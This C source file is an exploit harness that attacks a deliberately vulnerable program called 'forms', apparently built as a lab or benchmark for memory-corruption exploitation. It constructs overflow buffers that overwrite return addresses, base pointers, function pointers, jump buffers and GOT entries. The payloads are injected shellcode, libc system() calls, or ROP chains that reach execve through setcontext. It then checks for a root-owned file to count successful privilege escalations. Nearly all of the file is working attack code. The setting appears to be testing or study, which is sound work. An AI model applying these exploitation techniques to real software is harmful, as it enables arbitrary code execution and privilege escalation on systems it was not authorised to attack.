// SPDX-License-Identifier: MIT
/*
 * Hijacks the weak program `forms` as user 1000 in each form: a place of memory, what is
 * overwritten there, what it then does, and the function that overwrites. Prints each with what is
 * left of it. `generate harmless` only greets.
 */
#include "exploit.h"
#include "forms.h"

#include <sys/syscall.h>

enum payload { CODE, LIBC, RETURNS, PAYLOADS };

static const char *const LOCATION[] = {"stack", "heap", "bss", "data"};
static const char *const TARGET[] = {"return", "base", "function", "jump", "struct", "linkage"};
static const char *const PAYLOAD[] = {"shellcode", "libc", "rop"};
static const char *const COPY[] = {"memcpy", "strcpy", "sprintf", "read"};

struct form {
	enum location location;
	enum target target;
	enum payload payload;
	enum copy copy;
	char name[48];
};

/* Places in the buffer. A context of setcontext(3) or a command is at its begin. */
enum {
	CODE_AT = 0x200,
	PATH = 0x300,
	NAME = 0x310,
	ARGUMENTS = 0x340,
	COMMAND = 0x380,
	CHAIN = 0x1800
};
/* What setcontext(3) of x86-64 reads of its argument. */
enum { CONTEXT_RSP = 0xa0, CONTEXT_RIP = 0xa8, CONTEXT_X87 = 0xe0, CONTEXT_MXCSR = 0x1c0 };

static char text[2 * ROOM];
static size_t used;

static void place(size_t at, const void *from, size_t length)
{
	memcpy(text + at, from, length);
	used = used > at + length ? used : at + length;
}

static void number(size_t at, unsigned long value)
{
	place(at, &value, sizeof value);
}

static void say(size_t at, const char *words)
{
	place(at, words, strlen(words) + 1);
}

static void strings(const struct form *form, unsigned long buffer)
{
	char command[64];

	say(PATH, MARK);
	say(NAME, form->name);
	number(ARGUMENTS, buffer + PATH);
	number(ARGUMENTS + 8, buffer + NAME);
	number(ARGUMENTS + 16, 0);
	snprintf(command, sizeof command, MARK " %s", form->name);
	say(COMMAND, command);
	used = used > CODE_AT + 0x100 ? used : CODE_AT + 0x100;
	put_code(text + CODE_AT, form->name);
}

/* What a return leads to, from this place of the text, which will be at that address. */
static void chain(const struct form *form, size_t at, unsigned long address, unsigned long buffer)
{
	struct chain chain = {text + at, address};

	if (form->payload == CODE)
		put(&chain, buffer + CODE_AT);
	else if (form->payload == LIBC)
		call(&chain, "system", buffer + COMMAND);
	else
		call_kernel(&chain, SYS_execve, buffer + PATH, buffer + ARGUMENTS, 0);
	call(&chain, "_exit", 99);
	size_t end = chain.at - text;

	used = used > end ? used : end;
}

/* A function that is called with the buffer. */
static unsigned long called(const struct form *form, unsigned long buffer)
{
	if (form->payload == CODE)
		return buffer + CODE_AT;
	if (form->payload == LIBC) {
		char command[64];

		snprintf(command, sizeof command, MARK " %s", form->name);
		/* Behind it is what is stored. */
		strcat(command, strlen(command) < STORED - 3 ? " #" : "");
		place(0, command, strlen(command));
		if (strlen(command) > STORED)
			exit(2);
		return libc_symbol("system");
	}
	number(CONTEXT_RSP, buffer + CHAIN);
	number(CONTEXT_RIP, RET);
	number(CONTEXT_X87, buffer + CONTEXT_RIP + 16);
	place(CONTEXT_MXCSR, "\x80\x1f\0", 4);
	chain(form, CHAIN, buffer + CHAIN, buffer);
	return libc_symbol("setcontext");
}

/* All that is written from the buffer's begin on. */
static void fill(const struct form *form, unsigned long buffer, unsigned long frame)
{
	int direct = form->location == STACK;

	memset(text, 'A', sizeof text);
	used = 0;
	strings(form, buffer);
	switch (form->target) {
	case RETURN:
		chain(form, direct ? frame + 8 - buffer : STORED, frame + 8, buffer);
		break;
	case BASE:
		/* The frame's first value is the base pointer of the caller. */
		chain(form, CHAIN + 8, buffer + CHAIN + 8, buffer);
		number(direct ? frame - buffer : STORED, buffer + CHAIN);
		break;
	case FUNCTION:
		number(ROOM, called(form, buffer));
		break;
	case STRUCT:
		number(ROOM + 8, called(form, buffer));
		break;
	case JUMP:
		chain(form, CHAIN, buffer + CHAIN, buffer);
		number(ROOM, buffer + CHAIN);
		number(ROOM + 8, form->payload == CODE ? buffer + CODE_AT : RET);
		number(ROOM + 16, buffer + CHAIN);
		break;
	default:
		number(STORED, called(form, buffer));
	}
	if (form->target == LINKAGE)
		number(ROOM, slot_of("/h/forms", "strdup"));
	else if ((form->target == RETURN || form->target == BASE) && !direct)
		number(ROOM, form->target == RETURN ? frame + 8 : frame);
}

static void send_part(FILE *to, const char *bytes, unsigned length)
{
	fwrite(&length, sizeof length, 1, to);
	fwrite(bytes, length, 1, to);
}

/* What copies strings ends at a zero byte: each is the end of a message of its own, from the last
 * to the first. */
static void send_strings(FILE *to)
{
	char part[sizeof text];

	for (size_t i = 0; i < used; i++)
		part[i] = text[i] ? text[i] : 'A';
	for (size_t end = used; end > 0; end--)
		if (end == used ? text[end - 1] : !text[end])
			send_part(to, part, end);
}

static int attack(const struct form *form, int harmless)
{
	int to[2], from[2], status;
	unsigned long buffer, out, frame;
	char words[3][4];

	sprintf(words[0], "%d", form->location);
	sprintf(words[1], "%d", form->target);
	sprintf(words[2], "%d", form->copy);
	REQUIRE(!pipe2(to, O_CLOEXEC) && !pipe2(from, O_CLOEXEC));
	if (!vfork()) {
		dup2(to[0], 0);
		dup2(from[1], 1);
		execve("/h/forms", (char *[]){"forms", words[0], words[1], words[2], 0},
		       (char *[]){0});
		_exit(127);
	}
	close(to[0]);
	close(from[1]);
	FILE *said = fdopen(from[0], "r"), *told = fdopen(to[1], "w");

	REQUIRE(fscanf(said, "%lx %lx %lx", &buffer, &out, &frame) == 3);
	victim_stdout(out);
	fill(form, buffer, frame);
	if (harmless)
		send_part(told, "hello", 5);
	else if (form->copy == MEMCPY || form->copy == READ)
		send_part(told, text, used);
	else
		send_strings(told);
	fwrite((char[4]){0}, 4, 1, told);
	fclose(told);
	wait(&status);
	fclose(said);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

static void try(struct form *form)
{
	struct stat stat;
	char path[64];

	snprintf(form->name, sizeof form->name, "%s-%s-%s-%s", LOCATION[form->location],
		 TARGET[form->target], PAYLOAD[form->payload], COPY[form->copy]);
	snprintf(path, sizeof path, "/marks/%s", form->name);
	int ended = attack(form, 0), left = !lstat(path, &stat) && !stat.st_uid;

	printf("%s %s %d\n", form->name, left ? "left" : "nothing", ended);
}

int main(int argc, char **argv)
{
	int harmless = argc > 1 && !strcmp(argv[1], "harmless");

	REQUIRE(!setgid(1000) && !setuid(1000));
	signal(SIGPIPE, SIG_IGN);
	setvbuf(stdout, 0, _IOLBF, 0);
	for (int location = 0; location < LOCATIONS; location++)
		for (int target = 0; target < TARGETS; target++)
			for (int payload = 0; payload < PAYLOADS; payload++)
				for (int copy = 0; copy < COPIES; copy++) {
					struct form form = {location, target, payload, copy, ""};

					if (!harmless)
						try(&form);
					else if (!payload && !copy)
						REQUIRE(!attack(&form, 1));
				}
	return 0;
}
